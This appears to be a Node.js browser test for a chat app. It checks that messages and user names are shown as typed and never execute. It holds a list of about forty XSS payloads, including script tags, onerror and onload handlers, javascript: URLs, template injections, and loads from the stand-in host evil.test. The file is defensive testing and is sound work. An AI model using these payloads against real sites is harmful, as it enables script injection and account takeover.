// SPDX-License-Identifier: MIT
import assert from 'node:assert/strict';
import { after, test } from 'node:test';

import { startStack } from '../stack.mjs';
import { launch, openPerson, range } from './browser.mjs';

const VECTORS = [
  '<script>xss()</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '"><script>xss()</script>',
  '\'><script>xss()</script>',
  '</p></li></ol><script>xss()</script>',
  '</textarea><script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<img src=x onerror="xss()"//',
  '<IMG """><SCRIPT>xss()</SCRIPT>">',
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
  '<body onload=xss()>',
  '<iframe src="javascript:xss()"></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>">',
  '<object data="javascript:xss()">',
  '<embed src="javascript:xss()">',
  '<a href="javascript:xss()">click</a>',
  'javascript:xss()',
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>',
  '<video><source onerror=xss()>',
  '<audio src=x onerror=xss()>',
  '<style>@import "//evil.test/x.css";</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<base href=//evil.test/>',
  '<form action=javascript:xss()><button>x</button></form>',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '&#60;script&#62;xss()&#60;/script&#62;',
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '%3Cscript%3Exss()%3C/script%3E',
  '{{constructor.constructor("xss()")()}}',
  '${xss()} `${xss()}`',
  '<!--<img src="--><img src=x onerror=xss()//">',
  '<![CDATA[<img src=x onerror=xss()>]]>',
  'a & b &amp; c &copy; "quotes" \'single\'',
];

const stack = await startStack();
after(() => stack.stop());
const browser = await launch();
after(() => browser.close());

// bypassCSP: the page must be safe by itself, without the header's help
async function open(calls) {
  const person =
    await openPerson(browser, stack.origin, { bypassCSP: true });
  await person.page.exposeFunction('xss', () => calls.push('xss'));
  return person;
}

async function assertShownAsTyped(person, calls, expected) {
  assert.deepEqual(await person.shown(), expected);
  const inside = await person.page.getByRole('log')
    .locator('.text *, .name *').count();
  assert.equal(inside, 0, 'elements inside of a message');
  const added = await person.page.locator(
    'script:not([type=module]), iframe, object, embed, img, base, svg').count();
  assert.equal(added, 0, 'elements that the page does not have');
  assert.deepEqual(calls, []);
}

test('texts and names are shown as typed, and nothing executes',
  stack.logged(async () => {
    const calls = [];
    const reader = await open(calls);
    await reader.join('Reader');
    const writer = await open(calls);
    await writer.join('Writer');
    const expected = [];
    for (const [at, vector] of VECTORS.entries()) {
      const name = vector.slice(0, 50).trim(); // as much as one may type
      await writer.rename(name);
      await writer.say(vector);
      expected.push({ id: at + 1, name, text: vector });
      await writer.sees(range(1, at + 1));
    }
    const ids = range(1, VECTORS.length);
    await reader.sees(ids);
    await assertShownAsTyped(writer, calls, expected); // by the answers
    await assertShownAsTyped(reader, calls, expected); // by push
    await reader.reload();
    await reader.sees(ids);
    await assertShownAsTyped(reader, calls, expected); // by GET
    await writer.leave();
    await reader.leave();
  }));
